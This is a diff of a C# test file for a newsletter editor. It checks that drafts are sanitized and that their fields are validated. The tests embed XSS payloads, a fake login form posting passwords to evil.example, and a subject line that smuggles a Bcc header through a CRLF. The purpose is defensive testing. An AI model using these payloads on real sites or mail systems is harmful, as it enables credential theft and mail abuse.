@@ -92,22 +92,55 @@ public sealed class EditorEditionsTests : IAsyncLifetime
     }
 
     [Fact]
-    public async Task An_intro_with_script_and_event_handlers_reaches_no_email()
+    public async Task Markup_in_an_intro_reaches_no_preview_email_or_archive_as_markup()
     {
-        var (id, _) = await CreateAsync(Draft(intro: "Hello <script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))"));
+        var intro = "Hello <script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))\n\n"
+            + "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>\n\n<b>raw</b> **bold**";
+        var (id, etag) = await CreateAsync(Draft(intro: intro));
 
         var preview = (await (await _editor.GetAsync($"/api/editor/drafts/{id}/preview")).Content.ReadFromJsonAsync<JsonObject>())!["html"]!.GetValue<string>();
         var test = await _editor.PostAsJsonAsync($"/api/editor/drafts/{id}/test", new { to = "editor@example.com" });
+        await SendAsync(HttpMethod.Post, $"/api/editor/drafts/{id}/schedule", etag, new { sendAt = Start.AddMinutes(1) });
+        _app.Time.Advance(TimeSpan.FromMinutes(2));
+        await _app.Client.PostAsync("/DispatchScheduled", FunctionPayloads.Timer());
+        var archive = await _app.Client.GetAsync($"/archive/{Edition.IdFor("ml", Start)}");
 
         Assert.Equal(HttpStatusCode.Accepted, test.StatusCode);
+        Assert.Equal(HttpStatusCode.OK, archive.StatusCode);
         var sent = Assert.Single(_app.SendGrid.EmailsTo("editor@example.com"));
         Assert.StartsWith("[TEST] ", sent.Subject);
-        foreach (var html in new[] { preview, sent.Html })
+        foreach (var html in new[] { preview, sent.Html, await archive.Content.ReadAsStringAsync() })
         {
-            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
-            Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
-            Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
-            Assert.Contains("Hello", html);
+            var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
+            Assert.Empty(document.QuerySelectorAll("form, input, button, textarea, select, img, b, script"));
+            Assert.DoesNotContain(document.All.SelectMany(element => element.Attributes), attribute => attribute.Name.StartsWith("on", StringComparison.Ordinal));
+            Assert.DoesNotContain(document.QuerySelectorAll("a"), link => link.GetAttribute("href")?.Contains("javascript:", StringComparison.OrdinalIgnoreCase) == true);
+            Assert.DoesNotContain(document.All.SelectMany(element => element.Attributes), attribute => attribute.Value.Contains("evil.example", StringComparison.Ordinal)); // At most visible text.
+            Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
+        }
+    }
+
+    [Theory]
+    [InlineData("subject", "Two tips\r\nBcc: everyone@example.com")]
+    [InlineData("subject", "Two\ntips")]
+    [InlineData("subject", "Two\0tips")]
+    [InlineData("preheader", "Read\r\non")]
+    [InlineData("preheader", "Read\0on")]
+    public async Task A_subject_or_preheader_with_a_line_break_or_NUL_is_refused_naming_the_field(string field, string value)
+    {
+        var draft = new Dictionary<string, object> { ["track"] = "ml", ["subject"] = "Two tips", ["preheader"] = "Read on", ["intro"] = "Hi", ["tipIds"] = new[] { _mlTips[0].Id } };
+        draft[field] = value;
+        var (id, etag) = await CreateAsync(Draft());
+
+        var created = await _editor.PostAsJsonAsync("/api/editor/drafts", draft);
+        var updated = await SendAsync(HttpMethod.Put, $"/api/editor/drafts/{id}", etag, draft);
+
+        foreach (var response in new[] { created, updated })
+        {
+            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+            var errors = (await response.Content.ReadFromJsonAsync<JsonObject>())!["errors"]!.AsObject();
+            Assert.Equal([field], errors.Select(pair => pair.Key));
+            Assert.Contains($"The {field} must be one line", errors[field]![0]!.GetValue<string>(), StringComparison.Ordinal);
         }
     }
 
